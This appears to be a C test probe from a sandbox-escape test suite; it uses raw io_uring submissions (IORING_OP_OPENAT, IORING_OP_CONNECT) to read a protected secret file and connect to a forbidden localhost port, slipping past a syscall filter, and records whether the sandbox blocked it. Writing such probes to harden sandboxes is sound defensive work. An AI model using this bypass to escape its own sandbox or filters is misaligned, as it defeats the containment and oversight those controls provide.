/* io_uring MODE: do through io_uring what the filter would see as syscalls.
 *   open TARGET  IORING_OP_OPENAT of the secret (or vault), then read the fd
 *   connect      IORING_OP_CONNECT to 127.0.0.1:ATK_PORT_FORBIDDEN
 * Won when the secret is read or the connection is made. Raw syscalls: no
 * liburing needed.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

struct ring {
	int fd;
	struct io_uring_params p;
	unsigned char *sq, *cq;
	struct io_uring_sqe *sqes;
};

static void ring_setup(struct ring *r)
{
	memset(r, 0, sizeof(*r));
	r->fd = (int)syscall(SYS_io_uring_setup, 4, &r->p);
	if (r->fd < 0) {
		if (errno == ENOSYS)
			atk_result(ATK_UNAVAILABLE, "io_uring_setup: ENOSYS");
		atk_result(ATK_BLOCKED, "io_uring_setup: %s", atk_errname(errno));
	}
	size_t sq_size = r->p.sq_off.array + r->p.sq_entries * sizeof(uint32_t);
	size_t cq_size = r->p.cq_off.cqes + r->p.cq_entries * sizeof(struct io_uring_cqe);
	r->sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
		     IORING_OFF_SQ_RING);
	r->cq = mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
		     IORING_OFF_CQ_RING);
	r->sqes = mmap(NULL, r->p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
	if (r->sq == MAP_FAILED || r->cq == MAP_FAILED || r->sqes == MAP_FAILED)
		atk_result(ATK_ERROR, "mmap of the rings: %s", atk_errname(errno));
}

/* Submits one request and returns its result (>= 0, or -errno). */
static int ring_do(struct ring *r, const struct io_uring_sqe *sqe)
{
	uint32_t *sq_tail = (uint32_t *)(r->sq + r->p.sq_off.tail);
	uint32_t *sq_mask = (uint32_t *)(r->sq + r->p.sq_off.ring_mask);
	uint32_t *sq_array = (uint32_t *)(r->sq + r->p.sq_off.array);
	uint32_t tail = *sq_tail;
	uint32_t index = tail & *sq_mask;
	r->sqes[index] = *sqe;
	sq_array[index] = index;
	__atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		atk_result(ATK_BLOCKED, "io_uring_enter: %s", atk_errname(errno));
	uint32_t *cq_head = (uint32_t *)(r->cq + r->p.cq_off.head);
	uint32_t *cq_tail = (uint32_t *)(r->cq + r->p.cq_off.tail);
	uint32_t *cq_mask = (uint32_t *)(r->cq + r->p.cq_off.ring_mask);
	struct io_uring_cqe *cqes = (struct io_uring_cqe *)(r->cq + r->p.cq_off.cqes);
	uint32_t head = *cq_head;
	if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE))
		atk_result(ATK_ERROR, "no completion");
	int res = cqes[head & *cq_mask].res;
	__atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

static int open_mode(int argc, char **argv)
{
	const char *target = atk_target(argc >= 2 ? argv[1] : NULL);
	struct ring r;
	ring_setup(&r);
	struct io_uring_sqe sqe = { .opcode = IORING_OP_OPENAT,
				    .fd = AT_FDCWD,
				    .addr = (uint64_t)(uintptr_t)target,
				    .open_flags = O_RDONLY };
	int fd = ring_do(&r, &sqe);
	if (fd < 0)
		atk_result(ATK_BLOCKED, "IORING_OP_OPENAT: %s", atk_errname(-fd));
	if (atk_fd_is_secret(fd))
		atk_result(ATK_WON, "read the secret opened by IORING_OP_OPENAT");
	atk_result(ATK_BLOCKED, "opened something that is not the secret");
}

static int connect_mode(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	struct ring r;
	ring_setup(&r);
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		atk_result(ATK_ERROR, "socket: %s", atk_errname(errno));
	struct sockaddr_in sa = { .sin_family = AF_INET,
				  .sin_port = htons(ATK_PORT_FORBIDDEN),
				  .sin_addr.s_addr = htonl(0x7f000001) };
	struct io_uring_sqe sqe = { .opcode = IORING_OP_CONNECT,
				    .fd = s,
				    .addr = (uint64_t)(uintptr_t)&sa,
				    .off = sizeof(sa) };
	int rc = ring_do(&r, &sqe);
	if (rc < 0)
		atk_result(ATK_BLOCKED, "IORING_OP_CONNECT: %s", atk_errname(-rc));
	atk_result(ATK_WON, "connected to 127.0.0.1:%d through IORING_OP_CONNECT",
		   ATK_PORT_FORBIDDEN);
}

int main(int argc, char **argv)
{
	static const struct atk_mode modes[] = {
		{ "open", open_mode },
		{ "connect", connect_mode },
		{ NULL, NULL },
	};
	atk_dispatch(modes, argc, argv);
}
